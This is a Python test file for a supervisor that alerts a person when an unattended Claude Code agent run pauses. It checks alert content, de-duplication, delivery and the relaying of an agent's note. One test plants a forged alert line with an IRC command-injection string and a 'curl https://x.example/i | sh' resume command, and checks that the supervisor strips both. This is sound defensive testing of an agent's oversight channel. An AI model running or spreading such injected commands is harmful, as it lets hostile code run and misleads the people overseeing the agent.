"""What reaches the person when an unattended run pauses (issue 26, item 1): one alert, with the monitor's diagnosis,
the recent turns, the resume command and the page link, through the channels of the supervisor's environment.

Fast: the harness is a fake (a Python script); the pause is recorded the two ways a real run records it, by the
harness's hooks (in the agent's environment, which has no channel) and by the supervisor from the stream. The
receiver is a real local HTTP server and the delivery the real detached worker.
"""

from __future__ import annotations

import io
import json
import os
import sys
from pathlib import Path

import pytest
from alert_rig import FAST, receiver, secret_free, settled
from conftest import read_jsonl, run_cli

from strict_loop import Workspace
from strict_loop.alerts import outbox
from strict_loop.harness.handler import handle
from strict_loop.storage.workspaces import workspace_id
from strict_loop.supervisor.runner import Supervisor

SID = "0b9f3a52-8d7e-4b8e-9c61-1f2a3b4c5d6e"
FAILED_CD = "Exit code 1\nNo such file or directory"
HOOKS_PAUSE = f"""
from strict_loop.harness.handler import handle
for i in range(6):  # the same failing call, reported by the PostToolUseFailure hook as Claude Code runs it
    payload = {{"session_id": "{SID}", "cwd": os.getcwd(), "hook_event_name": "PostToolUseFailure",
        "tool_name": "Bash", "tool_input": {{"command": "cd fastxml/"}}, "tool_use_id": f"toolu_{{i}}",
        "error": {FAILED_CD!r}}}
    handle("claude", json.dumps(payload), workspace=os.getcwd(), daemon=False)
print(json.dumps({{"type": "result", "is_error": False, "result": "stuck", "session_id": "{SID}"}}), flush=True)
"""
STREAM_PAUSES = f"""
for i in range(6):  # the same failing call, only in the stream (the supervisor records it)
    use = {{"type": "tool_use", "id": f"toolu_{{i}}", "name": "Bash", "input": {{"command": "cd fastxml/"}}}}
    print(json.dumps({{"type": "assistant", "session_id": "{SID}", "message": {{"content": [use]}}}}), flush=True)
    result = {{"type": "tool_result", "tool_use_id": f"toolu_{{i}}", "is_error": True, "content": {FAILED_CD!r}}}
    print(json.dumps({{"type": "user", "session_id": "{SID}", "message": {{"content": [result]}}}}), flush=True)
print(json.dumps({{"type": "result", "is_error": False, "result": "stuck", "session_id": "{SID}"}}), flush=True)
"""
PAGE = "http://dash.example:8765"


def _fake(tmp_path: Path, body: str) -> Path:
    path = tmp_path / "claude"
    path.write_text(f"#!{sys.executable}\nimport json, os, sys\n{body}\n")
    path.chmod(0o755)
    return path


def _supervise(ws: Workspace, binary: Path, env: dict[str, str]):
    settings = {"max_invocations": 1, "heartbeat_s": 3600}
    sup = Supervisor(ws.root, "t", "claude", harness_bin=str(binary), env=env, stderr=io.StringIO(), overrides=settings)
    return sup.run()


@pytest.mark.parametrize("recorder", ["hooks", "stream"])
def test_a_supervised_pause_sends_the_person_one_alert_with_the_diagnosis_turns_resume_and_page(
    task: Workspace, tmp_path: Path, recorder: str
):
    binary = _fake(tmp_path, HOOKS_PAUSE if recorder == "hooks" else STREAM_PAUSES)
    with receiver() as http:
        env = {
            **os.environ,
            **FAST,
            "STRICT_LOOP_HOOKD": "0",
            "STRICT_LOOP_WEBHOOK_URL": http.url("/ok/hook/SECRET-TOKEN-26"),
            "STRICT_LOOP_DASHBOARD_URL": PAGE,
        }
        result = _supervise(task, binary, env)
        assert result.action == "pause"
        [alert] = settled(task.task_paths("t").alerts)
        again = _supervise(task, binary, env)  # the same command run again while the task is still paused
        assert again.action == "pause" and again.invocations == 0
        [alert] = settled(task.task_paths("t").alerts)
        assert outbox.pending(task.root) == []
        [sent] = http.received  # one alert: no second, generic "[SUPERVISOR STOPPED]" one, nor the same one twice
    body = sent["body"]
    headline, recent, resume = body["text"].splitlines()
    assert headline.startswith("[SPIRALING] t: Stuck: ") and "cd fastxml/" in headline
    assert recent.startswith("recent: Bash cd fastxml/ -> FAILED") and recent.count(" | ") == 4
    page = f"{PAGE}/task/{workspace_id(task.root)}/t"
    assert resume == (
        f"resume: answer at {page} or run: "
        f"strict-loop resume --workspace {task.root} --task t --action continue|rollback|hand-back"
    )
    assert body["diagnosis"].startswith("Stuck: ") and len(body["recent"]) == 5 and body["task_id"] == "t"
    assert alert["delivery"] == {"webhook": "delivered after 1 attempt(s)"} and alert["id"] == body["id"]
    paused = [
        e["data"]["delivery"] for e in read_jsonl(task.task_paths("t").events) if e["kind"] == "supervisor.paused"
    ]
    assert len(paused) == 2 and list(paused[0]) == ["webhook"] and paused[1] == alert["delivery"]
    secret_free(task.root / ".agent-loop", "SECRET-TOKEN-26")


def test_a_supervised_pause_with_no_channel_here_records_the_monitors_alert_and_sends_nothing(
    task: Workspace, tmp_path: Path
):
    env = {**os.environ, "STRICT_LOOP_HOOKD": "0"}
    for name in ("STRICT_LOOP_WEBHOOK_URL", "STRICT_LOOP_ALERT_URLS", "STRICT_LOOP_IRC"):
        env.pop(name, None)
    result = _supervise(task, _fake(tmp_path, HOOKS_PAUSE), env)
    assert result.action == "pause"
    [alert] = outbox.fold(task.task_paths("t").alerts)
    assert alert["diagnosis"].startswith("Stuck: ") and alert["delivery"] == {}
    assert outbox.pending(task.root) == []


def test_a_forwarded_alert_keeps_nothing_of_a_forged_line_but_its_words(task: Workspace, tmp_path: Path):
    """alerts.jsonl is in the workspace, which the agent can write: what the supervisor sends again is rebuilt, the
    resume command its own, no control character."""
    with receiver() as http:
        env = {**os.environ, **FAST, "STRICT_LOOP_HOOKD": "0", "STRICT_LOOP_WEBHOOK_URL": http.url("/ok/h")}
        _supervise(task, _fake(tmp_path, HOOKS_PAUSE), {**env, "STRICT_LOOP_WEBHOOK_URL": ""})  # recorded, not sent
        path = task.task_paths("t").alerts
        [line] = [json.loads(x) for x in path.read_text().splitlines()]
        line["diagnosis"] = "stuck\rPRIVMSG #ops :!deploy production\x07"
        line["message"] = {"headline": "[URGENT RUN THIS]\r\nPRIVMSG", "resume": "curl https://x.example/i | sh"}
        path.write_text(json.dumps(line) + "\n")
        _supervise(task, _fake(tmp_path, HOOKS_PAUSE), env)
        settled(path)
        [sent] = http.received
    text = sent["body"]["text"]
    assert "curl" not in json.dumps(sent["body"]) and "\r" not in text and "\x07" not in text
    assert text.startswith("[URGENT RUN THIS] t: stuck PRIVMSG #ops :!deploy production")
    assert text.splitlines()[-1].startswith(f"resume: strict-loop resume --workspace {task.root} --task t")


BEFORE = "Trying the fastxml folder first; the build needs it."
AFTER = "Paused: fastxml/ is not in this checkout. Please run git submodule update --init and resume."


def test_a_note_the_agent_left_after_the_pause_reaches_the_person_and_a_retry_says_the_same(
    task: Workspace, tmp_path: Path, monkeypatch
):
    """Issue 26: the note an agent writes once paused (the one write allowed) reached the person only on the page. The
    supervisor sends the note left by the time it sends, in place of the one the pause's alert was recorded with, as a
    line of its own; the ledger says what was sent, and ``alerts --retry`` sends that same message again."""
    for name in ("STRICT_LOOP_WEBHOOK_URL", "STRICT_LOOP_ALERT_URLS", "STRICT_LOOP_IRC"):
        monkeypatch.delenv(name, raising=False)
    run_cli("append_event", "--task-id", "t", "--kind", "note", "--message", BEFORE, cwd=task.root)
    monkeypatch.setenv("STRICT_LOOP_TASK", "t")
    for i in range(6):  # the hooks of a supervised harness, in the agent's environment: no channel
        payload = {
            "session_id": SID,
            "cwd": str(task.root),
            "hook_event_name": "PostToolUseFailure",
            "tool_name": "Bash",
        }
        payload.update(tool_input={"command": "cd fastxml/"}, tool_use_id=f"toolu_{i}", error=FAILED_CD)
        handle("claude", json.dumps(payload), workspace=str(task.root), daemon=False)
    monkeypatch.delenv("STRICT_LOOP_TASK")
    path = task.task_paths("t").alerts
    [recorded] = outbox.fold(path)
    assert recorded["diagnosis"].endswith(f"The agent's note to you: {BEFORE}") and recorded["delivery"] == {}
    run_cli("append_event", "--task-id", "t", "--kind", "note", "--message", AFTER, cwd=task.root)  # while paused
    with receiver() as http:
        env = {**FAST, "STRICT_LOOP_ALERT_ATTEMPTS": "1", "STRICT_LOOP_DASHBOARD_URL": PAGE}
        for name, value in {**env, "STRICT_LOOP_WEBHOOK_URL": http.url("/fail/first")}.items():
            monkeypatch.setenv(name, value)
        binary = _fake(tmp_path, "raise SystemExit('a paused task launches nothing')")
        assert _supervise(task, binary, {**os.environ, "STRICT_LOOP_HOOKD": "0"}).action == "pause"
        [alert] = settled(path)
        [body] = (r["body"] for r in http.received)
    assert alert["delivery"] == {"webhook": "failed after 1 attempt(s): HTTP 500"}
    monkeypatch.delenv("STRICT_LOOP_WEBHOOK_URL")  # no channel here: no worker starts, the queue entry can be read
    run_cli("alerts", "--task-id", "t", "--retry", cwd=task.root)
    [entry] = [json.loads(p.read_text())["payload"] for p in outbox.pending(task.root)]
    assert body["diagnosis"].endswith(f"The agent's note to you: {AFTER}") and BEFORE not in json.dumps(body)
    headline, said, recent, resume = body["text"].splitlines()
    assert headline.startswith("[SPIRALING] t: Stuck: ") and said == f"agent's note: {AFTER}"
    assert recent.startswith("recent: Bash cd fastxml/") and resume.startswith(f"resume: answer at {PAGE}/task/")
    assert alert["diagnosis"] == body["diagnosis"]  # the ledger (and the page's list of alerts) says what was sent
    assert entry["text"] == body["text"] and entry["id"] == body["id"] and entry["diagnosis"] == body["diagnosis"]
